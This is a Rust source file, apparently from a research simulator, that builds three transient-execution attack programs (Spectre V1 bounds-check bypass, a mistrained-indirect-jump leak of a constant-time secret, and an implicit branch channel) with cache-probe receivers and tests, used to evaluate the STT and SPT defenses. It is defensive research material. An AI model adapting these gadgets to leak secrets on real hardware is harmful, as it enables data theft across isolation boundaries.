//! Penetration-test attack programs (paper §9.1).
//!
//! Two attacks, each with an in-simulator cache-timing receiver (probing
//! which probe-array line got cached — the same observation Flush+Reload
//! makes through latency):
//!
//! * [`spectre_v1`] — the classic bounds-check-bypass universal read
//!   gadget. The victim's bounds branch is trained taken, then supplied an
//!   out-of-bounds index whose bound arrives through a slow pointer chain,
//!   opening a wide transient window. Blocked by STT *and* SPT (the leaked
//!   data is speculatively accessed).
//! * [`ct_secret`] — the paper's motivating attack on constant-time code
//!   (§3): the secret is read into a register by a *retired* load (it is
//!   non-speculatively accessed, but never leaked — a non-speculative
//!   secret), and a mistrained indirect jump transiently executes a
//!   transmit gadget with that register. STT does **not** block this
//!   (the data is not speculatively accessed); SPT does.

use crate::Workload;
use spt_isa::asm::Assembler;
use spt_isa::interp::SparseMem;
use spt_isa::Reg;

/// An attack program plus the receiver's probe parameters.
#[derive(Clone, Debug)]
pub struct Attack {
    /// The victim+attacker program and its memory image.
    pub workload: Workload,
    /// Base of the probe (receiver) array.
    pub probe_base: u64,
    /// The secret value the attack tries to exfiltrate.
    pub secret: u64,
    /// Probe-line stride (one cache line per secret value).
    pub stride: u64,
    /// A probe value touched architecturally during training (so tests can
    /// confirm the receiver works at all).
    pub trained_value: u64,
}

impl Attack {
    /// The probe address whose caching reveals the secret.
    pub fn leak_addr(&self) -> u64 {
        self.probe_base + self.secret * self.stride
    }

    /// The probe address touched architecturally during training.
    pub fn trained_addr(&self) -> u64 {
        self.probe_base + self.trained_value * self.stride
    }
}

const PROBE: u64 = 0x1_0000; // probe array B (64-byte lines per value)
const SECRET_VALUE: u64 = 5;

/// Builds the Spectre V1 bounds-check-bypass attack.
///
/// Victim pseudo-code: `if (i < N) leak(B[A[i] * 64])`. The bound `N` is
/// fetched through a two-level pointer chain that is hot during training
/// and cold on the malicious trial, giving the transient window ~2× DRAM
/// latency.
pub fn spectre_v1() -> Attack {
    const A: u64 = 0x2_0000; // byte array, N = 16
    const IDX: u64 = 0x3_0000; // per-trial indices
    const NPTR: u64 = 0x4_0000; // per-trial pointer to the bound chain
    const HOT1: u64 = 0x5_0000;
    const HOT2: u64 = 0x5_0100;
    const COLD1: u64 = 0x60_0000;
    const COLD2: u64 = 0x64_0000;
    const TRIALS: u64 = 40;
    const N: u64 = 16;
    const OOB: u64 = 64; // A + 64 holds the secret byte

    let (idx, val, gaddr, probe_out, nbound, chain, _t, ctr, ntrials) =
        (Reg::R1, Reg::R2, Reg::R3, Reg::R4, Reg::R8, Reg::R9, Reg::R7, Reg::R10, Reg::R11);
    let (a_r, b_r, idx_r, np_r) = (Reg::R12, Reg::R13, Reg::R14, Reg::R15);

    let mut a = Assembler::new();
    a.mov_imm(a_r, A as i64);
    a.mov_imm(b_r, PROBE as i64);
    a.mov_imm(idx_r, IDX as i64);
    a.mov_imm(np_r, NPTR as i64);
    a.mov_imm(ntrials, TRIALS as i64);
    a.mov_imm(ctr, 0);
    a.label("trial");
    // i = IDX[t]
    a.ldx8(idx, idx_r, ctr);
    // N through the per-trial pointer chain (hot in training, cold on the
    // malicious trial).
    a.ldx8(chain, np_r, ctr);
    a.ld(chain, chain, 0);
    a.ld(nbound, chain, 0);
    // Bounds check: trained taken; mispredicts taken on the last trial.
    a.blt(idx, nbound, "inbounds");
    a.jmp("next");
    a.label("inbounds");
    a.ldxb(val, a_r, idx); // A[i] — out of bounds on the transient path
    a.shli(gaddr, val, 6);
    a.add(gaddr, gaddr, b_r);
    a.ld(probe_out, gaddr, 0); // transmit: fills B[A[i]*64]'s line
    a.label("next");
    a.addi(ctr, ctr, 1);
    a.blt(ctr, ntrials, "trial");
    a.halt();
    let program = a.assemble().expect("spectre_v1 assembles");

    let mut image = SparseMem::new();
    // A[0..16] = 0 (training touches B[0]); the secret byte out of bounds.
    image.write_words(A, [0, 0]);
    image.write(A + OOB, SECRET_VALUE, 8);
    let last = |tr: u64| tr == TRIALS - 1;
    image.write_words(IDX, (0..TRIALS).map(|tr| if last(tr) { OOB } else { tr % N }));
    image.write_words(NPTR, (0..TRIALS).map(|tr| if last(tr) { COLD1 } else { HOT1 }));
    for (addr, word) in [(HOT1, HOT2), (HOT2, N), (COLD1, COLD2), (COLD2, N)] {
        image.write(addr, word, 8);
    }

    Attack {
        workload: Workload {
            name: "spectre_v1",
            category: crate::Category::ConstantTime,
            description:
                "bounds-check bypass: transient out-of-bounds read into a cache transmitter",
            program,
            image: image.freeze(),
            secret_ranges: vec![(A + OOB, 1)],
        },
        probe_base: PROBE,
        secret: SECRET_VALUE,
        stride: 64,
        trained_value: 0,
    }
}

/// Builds the constant-time-code attack on a *non-speculative secret*.
///
/// The secret is loaded by a retired (architectural) load — exactly what a
/// constant-time crypto routine does with a key — and never passed to any
/// transmitter. A mistrained indirect jump then transiently executes a
/// gadget that transmits the secret-holding register. STT's protection
/// scope (speculatively-accessed data only) misses this; SPT blocks it.
pub fn ct_secret() -> Attack {
    const KEYARR: u64 = 0x2_0000; // [0] = dummy 0 (trained), [8] = secret
    const TPTR: u64 = 0x3_0000; // per-trial pointer chain roots
    const HOTP: u64 = 0x5_0000;
    const HOTQ: u64 = 0x5_0100;
    const COLD1: u64 = 0x60_0000;
    const COLD2: u64 = 0x64_0000;
    const TRIALS: u64 = 8;

    let (key, is_last, _t, target, gaddr, probe_out, ctr, ntrials) =
        (Reg::R20, Reg::R21, Reg::R7, Reg::R10, Reg::R5, Reg::R6, Reg::R11, Reg::R12);
    let (b_r, keys_r, tp_r) = (Reg::R13, Reg::R14, Reg::R15);

    let mut a = Assembler::new();
    a.mov_imm(b_r, PROBE as i64);
    a.mov_imm(keys_r, KEYARR as i64);
    a.mov_imm(tp_r, TPTR as i64);
    a.mov_imm(ntrials, TRIALS as i64);
    a.mov_imm(ctr, 0);
    a.label("trial");
    // Architectural (retiring) load of the key byte: dummy 0 during
    // training, the real secret on the last trial. The address depends
    // only on the public trial counter — this is the constant-time
    // discipline.
    a.seqi(is_last, ctr, TRIALS as i64 - 1);
    a.ldx8(key, keys_r, is_last);
    // Indirect-jump target through the per-trial chain: GADGET (hot) while
    // training, BENIGN (cold chain) on the last trial.
    a.ldx8(target, tp_r, ctr);
    a.ld(target, target, 0);
    a.ld(target, target, 0);
    a.jr(target);
    a.label("gadget");
    // transmit(key): during training key = 0 (and the jump here is
    // architectural); on the last trial this executes only transiently.
    a.shli(gaddr, key, 6);
    a.add(gaddr, gaddr, b_r);
    a.ld(probe_out, gaddr, 0);
    a.label("benign");
    a.addi(ctr, ctr, 1);
    a.blt(ctr, ntrials, "trial");
    a.halt();
    let program = a.assemble().expect("ct_secret assembles");

    let gadget_pc = program.label_pc("gadget").expect("gadget label");
    let benign_pc = program.label_pc("benign").expect("benign label");
    let mut image = SparseMem::new();
    image.write_words(KEYARR, [0, SECRET_VALUE]);
    image.write_words(TPTR, (0..TRIALS).map(|tr| if tr == TRIALS - 1 { COLD1 } else { HOTP }));
    for (addr, word) in [(HOTP, HOTQ), (HOTQ, gadget_pc), (COLD1, COLD2), (COLD2, benign_pc)] {
        image.write(addr, word, 8);
    }

    Attack {
        workload: Workload {
            name: "ct_secret",
            category: crate::Category::ConstantTime,
            description:
                "non-speculative secret leak: mistrained indirect jump into a transmit gadget",
            program,
            image: image.freeze(),
            secret_ranges: vec![(KEYARR + 8, 8)],
        },
        probe_base: PROBE,
        secret: SECRET_VALUE,
        stride: 64,
        trained_value: 0,
    }
}

/// Builds the *resolution-based implicit channel* attack (paper §2.2): a
/// transient branch whose predicate is a non-speculative secret. If the
/// branch's resolution effects are applied while transient, the redirect
/// steers wrong-path fetch to a secret-dependent arm whose load marks a
/// probe line. STT does not protect the (non-speculatively accessed)
/// predicate, so it leaks; SPT defers the resolution until the predicate is
/// public or the branch reaches the VP — which a wrong-path branch never
/// does.
pub fn implicit_branch() -> Attack {
    const KEYARR: u64 = 0x2_0000; // [0] = dummy 0 (trained), [8] = secret (nonzero)
    const TPTR: u64 = 0x3_0000;
    const HOTP: u64 = 0x5_0000;
    const HOTQ: u64 = 0x5_0100;
    const COLD1: u64 = 0x60_0000;
    const COLD2: u64 = 0x64_0000;
    const TRIALS: u64 = 8;
    // Probe lines: value 1 = "secret was zero" arm (trained), value 2 =
    // "secret was nonzero" arm (only reachable by a transient resolution
    // redirect on the final trial).
    const ZERO_ARM: u64 = 1;
    const NONZERO_ARM: u64 = 2;

    let (key, is_last, _t, target, probe_out, ctr, ntrials) =
        (Reg::R20, Reg::R21, Reg::R7, Reg::R10, Reg::R6, Reg::R11, Reg::R12);
    let (b_r, keys_r, tp_r) = (Reg::R13, Reg::R14, Reg::R15);

    let mut a = Assembler::new();
    a.mov_imm(b_r, PROBE as i64);
    a.mov_imm(keys_r, KEYARR as i64);
    a.mov_imm(tp_r, TPTR as i64);
    a.mov_imm(ntrials, TRIALS as i64);
    a.mov_imm(ctr, 0);
    a.label("trial");
    a.seqi(is_last, ctr, TRIALS as i64 - 1);
    a.ldx8(key, keys_r, is_last); // retiring load: 0 in training, secret last
    a.ldx8(target, tp_r, ctr);
    a.ld(target, target, 0);
    a.ld(target, target, 0);
    a.jr(target); // trained to GADGET; actual BENIGN (slowly) on last trial
    a.label("gadget");
    // The implicit channel: a branch on the (never-transmitted) secret.
    // It never takes during training (key = 0), so the predictor reliably
    // predicts not-taken and the secret arm is *only* reachable through a
    // transient resolution redirect.
    a.bne(key, Reg::R0, "nonzero_arm");
    a.ld(probe_out, b_r, (ZERO_ARM * 64) as i64); // trained fall-through arm
    a.jmp("benign");
    a.label("nonzero_arm");
    a.ld(probe_out, b_r, (NONZERO_ARM * 64) as i64); // secret-dependent arm
    a.label("benign");
    a.addi(ctr, ctr, 1);
    a.blt(ctr, ntrials, "trial");
    a.halt();
    let program = a.assemble().expect("implicit_branch assembles");

    let gadget_pc = program.label_pc("gadget").expect("gadget label");
    let benign_pc = program.label_pc("benign").expect("benign label");
    let mut image = SparseMem::new();
    image.write_words(KEYARR, [0, 1]); // any nonzero secret flips the branch
    for (addr, word) in [(HOTP, HOTQ), (HOTQ, gadget_pc), (COLD1, COLD2), (COLD2, benign_pc)] {
        image.write(addr, word, 8);
    }
    image.write_words(TPTR, (0..TRIALS).map(|tr| if tr == TRIALS - 1 { COLD1 } else { HOTP }));

    Attack {
        workload: Workload {
            name: "implicit_branch",
            category: crate::Category::ConstantTime,
            description:
                "resolution-based implicit channel: transient branch on a non-speculative secret",
            program,
            image: image.freeze(),
            secret_ranges: vec![(KEYARR + 8, 8)],
        },
        probe_base: PROBE,
        secret: NONZERO_ARM,
        stride: 64,
        trained_value: ZERO_ARM,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_halt_architecturally() {
        for attack in [spectre_v1(), ct_secret(), implicit_branch()] {
            let mut i = attack.workload.interp();
            i.run(100_000).unwrap_or_else(|e| panic!("{}: {e}", attack.workload.name));
            assert!(i.halted(), "{}", attack.workload.name);
        }
    }

    #[test]
    fn architectural_execution_never_touches_the_leak_line() {
        // On the reference (non-speculative) semantics, the victim never
        // loads from the secret's probe line: the leak can only come from
        // transient execution.
        for attack in [spectre_v1(), ct_secret(), implicit_branch()] {
            let mut i = attack.workload.interp();
            i.enable_trace();
            i.run(100_000).unwrap();
            let leak = attack.leak_addr();
            let touched = i.trace().unwrap().iter().any(|e| {
                matches!(
                    e.kind,
                    spt_isa::interp::LeakKind::LoadAddr | spt_isa::interp::LeakKind::StoreAddr
                ) && e.value / 64 == leak / 64
            });
            assert!(
                !touched,
                "{}: architectural run must not touch the leak line",
                attack.workload.name
            );
        }
    }

    #[test]
    fn training_touches_the_trained_line() {
        for attack in [spectre_v1(), ct_secret(), implicit_branch()] {
            let mut i = attack.workload.interp();
            i.enable_trace();
            i.run(100_000).unwrap();
            let trained = attack.trained_addr();
            let touched = i
                .trace()
                .unwrap()
                .iter()
                .any(|e| e.kind == spt_isa::interp::LeakKind::LoadAddr && e.value == trained);
            assert!(
                touched,
                "{}: training must touch the trained probe line",
                attack.workload.name
            );
        }
    }

    #[test]
    fn leak_addr_math() {
        let a = spectre_v1();
        assert_eq!(a.leak_addr(), PROBE + 5 * 64);
        assert_ne!(a.leak_addr(), a.trained_addr());
    }
}
